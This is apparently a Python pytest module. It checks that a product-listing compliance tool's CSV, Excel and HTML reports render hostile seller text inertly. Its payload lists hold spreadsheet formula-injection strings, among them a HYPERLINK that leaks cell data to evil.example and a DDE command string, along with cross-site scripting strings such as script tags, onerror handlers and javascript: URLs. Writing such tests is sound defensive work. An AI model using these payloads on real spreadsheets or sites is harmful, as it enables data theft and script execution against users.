"""Hostile text in a seller's file or a data source comes out of every report inert.

Payloads go in as seller text (title, brand, other fields, hence also matched
words and evidence) and as rule and trademark sources; the CSV, Excel and HTML
reports are then read back the way a spreadsheet or a browser would.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from app.core.models import ChecklistItem, Finding, Listing, ListingResult
from app.core.report import build_report
from app.io.reports import write_report
from app.io.reports.common import FORMULA_START
from tests.report_samples import GENERATED, VERSIONS

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+SUM(1)",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
]
BAD_SOURCES = [
    "javascript:alert(1)",
    "Click <javascript:alert(document.cookie)>",
    "=HYPERLINK(\"http://evil.example\") <https://rules.example/ok>",
    '"><script>alert(1)</script> <http://x.example/" onmouseover="alert(1)>',
    "<script>alert(1)</script>",
    "data:text/html,<script>alert(1)</script>",
]
TEXT = {"en": "x", "zh_CN": "x"}


def hostile_results(checker) -> list[ListingResult]:
    """Listings whose every field starts with a payload, checked for real (a brand follows each payload)
    and given findings whose matched words and sources are payloads too."""
    results = []
    for i, payload in enumerate(PAYLOADS):
        fields = {"sku": payload, "title": f"{payload} Nike running shoes", "brand": payload,
                  "bullet_1": payload, "search_terms": f"{payload} nike", "description": payload,
                  "manufacturer": payload}
        listing = Listing(fields, source=f"{payload}.xlsx", sheet=payload, row=i + 2)
        result = checker.check(listing, ("US",))
        assert any(f.mark == "Nike" for f in result.findings)  # the real checker found something to report
        source = BAD_SOURCES[i % len(BAD_SOURCES)]
        result.findings.append(Finding(
            kind="rule", topic="promotional_claim", severity="high", market="US", field="title", start=0,
            end=len(payload), matched=payload, message={"en": payload, "zh_CN": payload},
            suggestion={"en": payload, "zh_CN": payload}, source=source, rule_id=payload))
        result.findings.append(Finding(
            kind="trademark", topic="trademark", severity="medium", market="US", field="brand", start=0,
            end=len(payload), matched=payload, message=TEXT, suggestion=TEXT, source=source, mark=payload,
            owner=payload, match="exact"))
        result.checklist.append(ChecklistItem(payload, "US", {"en": payload}, {"en": payload}, source))
        results.append(result)
    return results


@pytest.fixture(scope="module")
def report(checker) -> dict[str, Any]:
    return build_report(hostile_results(checker), markets=("US",), versions=VERSIONS, lang="en",
                        generated_at=GENERATED)


def test_csv_cells_never_start_like_a_formula(tmp_path: Path, report) -> None:
    write_report(report, tmp_path / "r.csv")
    rows = list(csv.reader((tmp_path / "r.csv").read_text(encoding="utf-8-sig").splitlines(keepends=True)))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    for payload in PAYLOADS:
        quoted = "'" + payload.replace("\r", "\n") if payload.startswith(FORMULA_START) else payload
        assert any(cell.replace("\r", "\n") == quoted for cell in cells), payload


def test_xlsx_has_no_formulas_and_formula_like_text_is_quoted(tmp_path: Path, report) -> None:
    out = tmp_path / "r.xlsx"
    write_report(report, out)
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
                assert "<script" not in xml and "<img" not in xml, name
            if name.endswith(".rels"):
                rels = z.read(name).decode("utf-8")
                assert "javascript:" not in rels and "data:" not in rels, name
    wb = load_workbook(out)
    formula_like = 0
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    formula_like += 1
                if cell.hyperlink is not None:
                    assert cell.hyperlink.target.startswith(("http://", "https://")), cell.hyperlink.target
    assert formula_like >= 8 * len(PAYLOADS) // 2


def test_libreoffice_shows_the_payloads_as_text(tmp_path: Path, report) -> None:
    """A real spreadsheet engine opens the workbook and shows the payloads verbatim instead of running them."""
    exe = shutil.which("libreoffice") or shutil.which("soffice")
    if exe is None:
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui to run this check)")
    out = tmp_path / "r.xlsx"
    write_report(report, out)
    proc = subprocess.run(
        [exe, f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}", "--headless", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", "--outdir",
         str(tmp_path), str(out)], capture_output=True, text=True, timeout=300, check=False)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader((tmp_path / "r-Catalogue.csv").read_text(encoding="utf-8").splitlines(keepends=True)))
    header = rows[0]
    shown = [row[header.index("Brand")] for row in rows[1:]]
    assert [s.replace("\r", "\n") for s in shown] == [p.replace("\r", "\n") for p in PAYLOADS]
    assert "0" not in shown and "1" not in shown and "Click me" not in shown  # nothing was calculated


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_html_escapes_everything_and_links_only_to_the_web(tmp_path: Path, report) -> None:
    write_report(report, tmp_path / "r.html")
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    parser = _Tags()
    parser.feed(page)
    tags = {tag for tag, _ in parser.tags}
    assert tags <= {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "div", "table",
                    "thead", "tr", "th", "td", "span", "b", "br", "a"}, tags
    for tag, attrs in parser.tags:
        for name, value in attrs:
            assert not name.startswith("on") and name not in ("src", "srcset", "style") or (
                name == "style" and value and "url(" not in value), (tag, name, value)
            if name == "href":
                assert value and value.startswith(("http://", "https://")) and '"' not in value, value
    text = "".join(parser.text)
    for payload in PAYLOADS:  # shown as text, in full
        assert payload.replace("\r", "\n") in text.replace("\r", "\n"), payload
    assert "https://rules.example/ok" in [v for _, attrs in parser.tags for n, v in attrs if n == "href"]
